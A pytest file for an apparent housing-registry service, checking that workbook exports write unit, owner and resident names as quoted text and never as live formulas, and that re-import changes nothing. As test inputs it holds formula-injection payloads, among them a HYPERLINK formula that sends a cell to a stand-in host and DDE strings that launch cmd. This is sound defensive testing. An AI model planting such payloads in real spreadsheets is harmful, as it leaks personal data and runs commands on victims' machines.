"""Formula injection (issue 8, point 3): a unit, owner or resident named like a formula —
``=HYPERLINK("http://…"&E2,"click")``, ``=cmd|' /C calc'!A0`` — was written into the
export as a live formula, in a workbook that also holds unmasked ID numbers. Names come in
through the import and through RPC; the exported sheet's XML must hold no formula, each
name as a string cell (with Excel's quote prefix), and re-importing the export changes
nothing."""
import io
import re
import time
import zipfile
from xml.etree import ElementTree
from xml.sax.saxutils import escape

import openpyxl
import pytest

from fazhi_shared import files
from fazhi_shared.context import Grant, Principal
from fazhi_shared.service.testing import call_as

from fazhi_org_contract.vocabulary import XLSX
from org.samples import unit_row, xlsx
from org.workbook import KEYS, SHEET

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HYPERLINK = '=HYPERLINK("http://evil.example/?id="&H2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
NAMES = {
    "unit": HYPERLINK,
    "owner_name": DDE,
    "resident_name": "+1+cmd|' /C calc'!A0",
    "building": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def user(role, path):
    return Principal(kind="user", account_id="acc-formula", grants=(Grant(role, path),))


def run_job(principal, compound_id, content, timeout=60):
    ref = files.put_bytes(content, XLSX, "房屋.xlsx")
    job = call_as(principal, "org", "start_import", compound_id=compound_id, file=ref)
    end = time.monotonic() + timeout
    while job["status"] == "running":
        assert time.monotonic() < end, "import did not finish"
        time.sleep(0.05)
        job = call_as(principal, "org", "get_import", job_id=job["id"])
    return job


def text_workbook(rows: list) -> bytes:
    """A workbook whose cells hold the rows' values as text (placeholders written by
    openpyxl, replaced in the XML: openpyxl would write a leading ``=`` as a formula)."""
    placeholders = {}
    for i, row in enumerate(rows):
        for key, value in list(row.items()):
            if isinstance(value, str) and value[:1] in "=+-@":
                placeholders[f"PLACEHOLDER{i}X{key}".encode()] = escape(value).encode()
                row[key] = f"PLACEHOLDER{i}X{key}"
    src, out = zipfile.ZipFile(io.BytesIO(xlsx(rows))), io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            for old, new in placeholders.items():
                data = data.replace(old, new)
            dst.writestr(item, data)
    return out.getvalue()


def sheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return z.read("xl/worksheets/sheet1.xml")


def string_cells(content: bytes) -> dict:
    """Every string cell of the first sheet: text → its style index."""
    root = ElementTree.fromstring(sheet_xml(content))
    out = {}
    for c in root.iterfind(".//m:c", NS):
        if c.get("t") == "inlineStr":
            out["".join(t.text or "" for t in c.iterfind(".//m:t", NS))] = int(c.get("s", 0))
    return out


def quote_prefixed_styles(content: bytes) -> set:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        root = ElementTree.fromstring(z.read("xl/styles.xml"))
    xfs = root.find("m:cellXfs", NS)
    return {i for i, xf in enumerate(xfs) if xf.get("quotePrefix") in ("1", "true")}


def assert_no_formula(content: bytes, names) -> None:
    xml = sheet_xml(content)
    assert re.search(rb"<(\w+:)?f[ >/]", xml) is None, "the export holds a formula"
    cells = string_cells(content)
    prefixed = quote_prefixed_styles(content)
    for name in names:
        assert name in cells, (name, "not a string cell")
        assert cells[name] in prefixed, (name, "written without Excel's quote prefix")
    ws = openpyxl.load_workbook(io.BytesIO(content))[SHEET]
    values = {c.value for r in ws.iter_rows(min_row=2) for c in r}
    assert set(names) <= values


@pytest.fixture
def compound(tree):
    admin = user("street_admin", tree["streetA"]["path"])
    return call_as(admin, "org", "create_unit", parent_id=tree["communityA"]["id"],
                   kind="compound", name=f"公式小区{time.monotonic_ns()}")


@pytest.fixture
def worker(tree):
    return user("community_worker", tree["communityA"]["path"])


def test_names_imported_like_formulas_are_exported_as_text(compound, worker):
    row = {**unit_row(4), **NAMES, "resident_relation": "租户",
           "owner_id_number": "321283199001017778"}
    job = run_job(worker, compound["id"], text_workbook([row, unit_row(5)]))
    assert job["status"] == "done" and job["errors"] == [] and job["imported"] == 2, job
    ref = call_as(worker, "org", "export_workbook", compound_id=compound["id"])
    content = files.read_bytes(ref)
    assert_no_formula(content, NAMES.values())
    # the ID numbers next to them are text too, and re-importing changes nothing
    assert "321283199001017778" in string_cells(content)
    again = run_job(worker, compound["id"], content)
    assert again["status"] == "done" and again["imported"] == 0 and again["unchanged"] == 2, again


def test_names_given_by_rpc_are_exported_as_text(compound, worker):
    building = call_as(worker, "org", "create_unit", parent_id=compound["id"], kind="building",
                       name="-1幢")
    for name in (HYPERLINK, DDE, "\t=1+1", "-2+3"):
        call_as(worker, "org", "create_unit", parent_id=building["id"], kind="unit", name=name)
    ref = call_as(worker, "org", "export_workbook", compound_id=compound["id"])
    # org strips names: "\t=1+1" is stored as "=1+1"
    assert_no_formula(files.read_bytes(ref), ["-1幢", HYPERLINK, DDE, "=1+1", "-2+3"])


def test_ordinary_values_keep_their_types(compound, worker):
    job = run_job(worker, compound["id"], xlsx([unit_row(7)]))
    assert job["status"] == "done", job
    ref = call_as(worker, "org", "export_workbook", compound_id=compound["id"])
    ws = openpyxl.load_workbook(io.BytesIO(files.read_bytes(ref)))[SHEET]
    values = dict(zip(KEYS, (c.value for c in ws[2])))
    assert isinstance(values["contract_area"], (int, float))   # numbers stay numbers
    assert values["unit"] == unit_row(7)["unit"]
